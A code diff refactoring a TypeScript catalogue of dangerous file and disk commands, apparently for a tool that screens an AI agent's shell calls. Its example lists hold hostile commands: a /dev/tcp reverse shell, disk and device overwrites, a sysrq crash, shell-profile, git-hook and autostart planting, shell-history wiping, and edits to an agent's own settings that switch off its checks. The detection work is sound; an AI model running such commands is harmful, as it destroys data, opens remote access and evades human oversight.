@@ -1,8 +1,6 @@
 // Danger catalogue, files and disks: deletes, disk tools, device writes, permission changes, system files.
 import type { DangerEntry } from './danger-entry.ts';
-import type { CommandView } from '../shell/view.ts';
 import { hasFlag, operands } from './flags.ts';
-import { writeTargets } from './write-targets.ts';
 import { isAgentSettings, isAutostart, isDangerousDevice, isGitInternal, isHistoryFile, isKernelControl, isRootOrHome, isShellProfile, isSystemPath } from './sensitive-targets.ts';
 
 const RECURSIVE = ['--recursive'];
@@ -12,12 +10,6 @@ const FORCE_RM = (args: string[]): boolean => hasFlag(args, 'f', FORCE);
 /** `/`, or inside a system directory. */
 const isSystemOrRoot = (p: string): boolean => isSystemPath(p) || /^\/+$/.test(p);
 
-/** A matcher over the command's write targets for an entry whose `written` test judges one path. */
-const writes = (written: (path: string, home: string) => boolean) => (v: CommandView): boolean => writeTargets(v).some((p) => written(p, v.home));
-
-const writesDevice = writes(isDangerousDevice);
-const writesProfile = writes(isShellProfile);
-const writesHistory = writes(isHistoryFile);
 
 /**
  * A history variable set so that nothing is recorded: no history file (`HISTFILE` unset, empty or `/dev/null`),
@@ -114,22 +106,17 @@ export const FILE_DANGERS: DangerEntry[] = [
     id: 'write-device', risk: 'high', reason: 'writes onto a device file (disk, raw socket or terminal of another process)',
     examples: ['cat /dev/urandom >/dev/sda', 'cp /dev/zero /dev/sdb', 'echo x | tee /dev/nvme0n1', 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'],
     written: (p) => isDangerousDevice(p),
-    match: (v) => v.program !== 'dd' && writesDevice(v),
-    onlyWhenWriting: true,
+    writtenExcept: ['dd'], // dd-to-device
   },
   {
     id: 'kernel-control', risk: 'high', reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
     examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
     written: (p) => isKernelControl(p),
-    match: writes(isKernelControl),
-    onlyWhenWriting: true,
   },
   {
     id: 'write-system-path', risk: 'high', reason: 'writes, moves or truncates files in a system directory',
     examples: ['tar -xf evil.tar -C /', 'echo x > /etc/hosts', 'mv /etc ~/.Trash/', 'mv -t /etc ~/Documents/a', 'find . -fprint /etc/passwd', 'truncate -s 0 /var/lib/mysql/ibdata1'],
     written: writesSystem,
-    match: writes(writesSystem),
-    onlyWhenWriting: true,
   },
   {
     id: 'rsync-delete', risk: 'high', reason: 'rsync --delete removes every file of the destination that the source lacks',
@@ -147,28 +134,23 @@ export const FILE_DANGERS: DangerEntry[] = [
     id: 'shell-profile-write', risk: 'high', reason: 'writes a shell start-up file: the line runs in every future shell',
     examples: ["echo 'alias cd=\"rm -r\"' >> ~/.bashrc", 'cp evil ~/.zshrc', 'tee -a ~/.profile < x'],
     written: isShellProfile,
-    match: (v) => writesProfile(v) || (v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home))),
+    match: (v) => v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home)),
   },
   {
     id: 'agent-settings-write', risk: 'high', reason: "writes an AI agent's own settings (hooks, permissions): a line there can switch off the checks on the agent's calls",
     examples: ["echo '{}' > .claude/settings.json", 'cp x ~/.codex/config.toml', "sed -i '/toolgate/d' ~/.gemini/settings.json", 'tee .claude/settings.local.json < new.json'],
     written: (p) => isAgentSettings(p),
-    match: writes(isAgentSettings),
-    onlyWhenWriting: true,
   },
   {
     id: 'autostart-write', risk: 'high', reason: 'writes a file that runs a program at login or on a timer (systemd user unit, XDG autostart, LaunchAgent, cron spool)',
     examples: ['cp evil.service ~/.config/systemd/user/', 'echo "Exec=sh x" > ~/.config/autostart/x.desktop', 'cp x.plist ~/Library/LaunchAgents/'],
     written: (p) => isAutostart(p),
-    match: (v) => v.program !== 'mkdir' && writes(isAutostart)(v), // an empty directory runs nothing
-    onlyWhenWriting: true,
+    writtenExcept: ['mkdir'], // an empty directory runs nothing
   },
   {
     id: 'git-internals-write', risk: 'high', reason: 'writes .git/config or a git hook: the next git command runs what it says',
     examples: ['echo x >.git/config', 'cp payload .git/hooks/pre-commit', "echo '[core] fsmonitor = x' >> ~/.gitconfig"],
     written: (p) => isGitInternal(p),
-    match: writes(isGitInternal),
-    onlyWhenWriting: true,
   },
   {
     id: 'chmod-recursive-world-writable', risk: 'high', reason: 'recursive chmod that makes a tree world-writable (chmod -R 777)',
@@ -194,8 +176,7 @@ export const FILE_DANGERS: DangerEntry[] = [
       'unset HISTFILE', 'export HISTFILE=/dev/null', 'HISTSIZE=0', 'export HISTFILESIZE=0 SAVEHIST=0', "HISTIGNORE='*'"],
     match: (v) => (v.program === 'history' && hasFlag(v.args, 'c', []))
       || (v.program === 'set' && v.args.some((a, i) => a === '+o' && v.args[i + 1] === 'history'))
-      || ((v.program === 'rm' || v.program === 'unlink') && operands(v.args).some(isHistoryFile))
-      || writesHistory(v),
+      || ((v.program === 'rm' || v.program === 'unlink') && operands(v.args).some(isHistoryFile)),
     written: (p) => isHistoryFile(p),
     assigned: stopsHistory,
   },
